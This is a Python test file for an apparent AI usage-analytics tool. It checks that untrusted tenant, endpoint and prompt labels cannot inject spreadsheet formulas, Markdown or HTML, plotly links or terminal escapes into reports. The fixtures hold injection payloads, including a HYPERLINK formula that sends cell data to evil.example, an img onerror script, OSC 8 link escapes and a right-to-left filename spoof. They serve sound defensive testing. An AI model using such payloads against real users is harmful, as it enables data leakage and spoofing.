"""Span text (tenant, model, endpoint, prompt version) is untrusted: in every output it
stays text - no spreadsheet formula, no Markdown or HTML structure, no plotly link, no
rich markup or terminal escape sequence (alert lines: tests/alerts/test_hostile_labels.py)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pytest
from infermeter.analytics import load_deployments, load_prices, request_table, weekly_report
from infermeter.analytics._text import csv_safe, markdown_text, plotly_text, printable
from infermeter.collectors import apply_migrations
from infermeter.collectors.testing import insert_spans, span_record, store_in_memory
from markdown_it import MarkdownIt

from infermeter import main

W47 = datetime(2026, 11, 16)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)"]
FORMULAS += ["\t=1+1", "\r=1+1"]
MARKDOWN = "x\n# Heading\n- item\n1. one\n> quote\n<img src=x onerror=alert(1)>`code`[l](http://e)"
PLOTLY = "<a href='https://evil.example'>click</a> <b>bold</b> &amp;"
TERMINAL = [
    "[/]",
    "[bold red]red[/bold red]",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred",
    "\u202egnp.exe",
    "a\x9bb",  # C1 CSI
]


def _store(tmp_path: Path, tenants: list[str], **fields: Any) -> Path:
    path = tmp_path / "store.duckdb"
    con = duckdb.connect(str(path))
    apply_migrations(con)
    insert_spans(
        con,
        [
            span_record(
                start=W47 + timedelta(hours=i),
                tenant=tenant,
                endpoint=fields.get("endpoint", "chat"),
                runtime="unknown",
                input_tokens=10 * (i + 1),
            )
            for i, tenant in enumerate(tenants)
        ],
    )
    con.close()
    return path


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# -- CSV -------------------------------------------------------------------------------


def test_csv_safe_prefixes_formula_cells_and_keeps_numbers() -> None:
    frame = pl.DataFrame({"tenant": [*FORMULAS, "plain", None], "n": [-1.5] * 8})
    safe = csv_safe(frame)
    assert safe["tenant"].to_list() == [*("'" + f for f in FORMULAS), "plain", None]
    assert safe["n"].dtype == pl.Float64 and safe["n"].to_list() == [-1.5] * 8


def test_metrics_csv_cells_cannot_be_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = _store(tmp_path, [*FORMULAS, "plain"])
    code, out, _ = _run(
        capsys, "metrics", "--store", str(store), "--by", "tenant", "--format", "csv"
    )
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert sorted(r["tenant"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["plain"])
    for row in rows:
        # OWASP: no cell a spreadsheet would evaluate; numbers stay numbers.
        assert not any(v[:1] in {"=", "+", "-", "@", "\t", "\r"} for v in row.values() if v)
        assert int(row["requests"]) == 1


def _weekly(tenants: list[str]) -> Any:
    con = store_in_memory()
    rows = []
    for i, tenant in enumerate(tenants):
        for week_start in (W47 - timedelta(days=7), W47):
            rows.append(
                span_record(
                    start=week_start + timedelta(hours=i),
                    tenant=tenant,
                    endpoint=(MARKDOWN, PLOTLY, "chat")[i % 3],
                    model="gpt-4o-mini",
                    provider="openai",
                    prompt_version=(PLOTLY, MARKDOWN, "v1")[i % 3],
                    runtime="unknown",
                    input_tokens=1000 * (i + 1) * (2 if week_start == W47 else 1),
                    output_tokens=10,
                )
            )
    insert_spans(con, rows)
    prices = load_prices()
    deployments = load_deployments(prices=prices)
    requests = request_table(
        con, con.table("spans"), prices=prices, deployments=deployments
    ).materialize()
    report = weekly_report(
        requests,
        week="2026-W47",
        prices=prices,
        deployments=deployments,
        generated_at=datetime(2026, 11, 23, 8, 0),
    )
    con.close()
    return report


@pytest.fixture(scope="module")
def hostile_report() -> Any:
    """One report whose tenants, endpoints and prompt versions are all hostile."""
    return _weekly([*FORMULAS, MARKDOWN, PLOTLY, "plain"])


def test_report_csv_cells_cannot_be_formulas(hostile_report: Any, tmp_path: Path) -> None:
    report = hostile_report
    written = report.write_csv(tmp_path / "csv")
    by_tenant = tmp_path / "csv" / "by_tenant.csv"
    assert by_tenant in written
    for path in written:
        with path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                for value in row.values():
                    assert not value or value[:1] not in {"=", "+", "-", "@", "\t", "\r"}, path
    with by_tenant.open(newline="") as fh:
        tenants = {row["tenant"]: row for row in csv.DictReader(fh)}
    assert set(tenants) == {"'" + f for f in FORMULAS} | {MARKDOWN, PLOTLY, "plain"}
    assert float(tenants["plain"]["requests"]) == 1


# -- Markdown ------------------------------------------------------------------------------


def _structure(markdown: str) -> list[tuple[str, int]]:
    """(token type, nesting level) of every block and inline token CommonMark parses."""
    out = []
    for token in MarkdownIt("commonmark").parse(markdown):
        out.append((token.type, token.level))
        out.extend((child.type, token.level) for child in token.children or [])
    return out


def test_markdown_text_is_inert() -> None:
    for text in [MARKDOWN, *FORMULAS, *TERMINAL, "1) x", "***", "---", "    code", "_a_ *b*"]:
        rendered = MarkdownIt("commonmark").render("- " + markdown_text(text))
        kinds = {kind for kind, _ in _structure("- " + markdown_text(text))}
        # One list, one item, one paragraph of text: nothing else.
        assert kinds <= {
            "bullet_list_open",
            "bullet_list_close",
            "list_item_open",
            "list_item_close",
            "paragraph_open",
            "paragraph_close",
            "inline",
            "text",
            "softbreak",
        }, (text, kinds)
        assert "softbreak" not in kinds
        assert rendered.count("<li>") == 1


def test_markdown_report_has_no_injected_structure(hostile_report: Any) -> None:
    from infermeter.analytics.report import render_markdown

    markdown = render_markdown(hostile_report)
    tokens = _structure(markdown)
    kinds = {kind for kind, _ in tokens}
    assert not kinds & {"html_inline", "html_block", "code_inline", "link_open", "image"}
    assert not kinds & {"ordered_list_open", "fence", "code_block", "hr", "softbreak"}
    # One heading (the title); lists and quotes only at the top level (no nesting).
    assert [t for t in tokens if t[0] == "heading_open"] == [("heading_open", 0)]
    assert {level for kind, level in tokens if kind.endswith(("list_open", "quote_open"))} == {0}


# -- HTML (plotly) --------------------------------------------------------------------------


def _plotly_strings(page: str) -> list[str]:
    """Every string in the data and layout of every plotly chart of ``page``."""
    decoder = json.JSONDecoder()
    strings: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, str):
            strings.append(value)
        elif isinstance(value, list):
            for item in value:
                walk(item)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)

    for match in re.finditer(r"Plotly\.newPlot\(\s*\"[^\"]+\",\s*", page):
        data, end = decoder.raw_decode(page, match.end())
        layout, _ = decoder.raw_decode(page, page.index("{", end))
        walk(data)
        walk(layout)
    return strings


def test_plotly_labels_are_plain_text(hostile_report: Any) -> None:
    from infermeter.analytics.report import render_html

    page = render_html(hostile_report)
    strings = _plotly_strings(page)
    assert strings, "no chart found"
    # plotly renders <a href>, <b>, <br> ... in labels; only entities may reach it.
    assert not any("<" in s or ">" in s for s in strings)
    assert plotly_text(PLOTLY) in strings
    assert plotly_text("a<b>&c") == "a&lt;b&gt;&amp;c"
    # Outside the charts everything is HTML-escaped: the tag never appears as a tag.
    assert "<a href='https://evil.example'>" not in page and "<b>bold" not in page


# -- terminal ---------------------------------------------------------------------------


_UNSAFE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_metrics_table_shows_markup_and_escapes_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # one line per tenant: no folding
    store = _store(tmp_path, TERMINAL)
    code, out, err = _run(capsys, "metrics", "--store", str(store), "--by", "tenant")
    assert code == 0, err
    assert _UNSAFE.search(out) is None
    assert "[/]" in out and "[bold red]red[/bold red]" in out
    assert "\\x1b]8;;https://evil.example\\x07link\\x1b]8;;\\x07" in out
    assert "\\u202egnp.exe" in out


def test_printable_escapes_every_control_character() -> None:
    assert printable("a\nb\tc\x1b\x9b\u2028\u202e") == "a\\nb\\tc\\x1b\\x9b\\u2028\\u202e"
    assert printable("ok: ünïcødé 中文 🙂") == "ok: ünïcødé 中文 🙂"
    assert printable(None) == ""
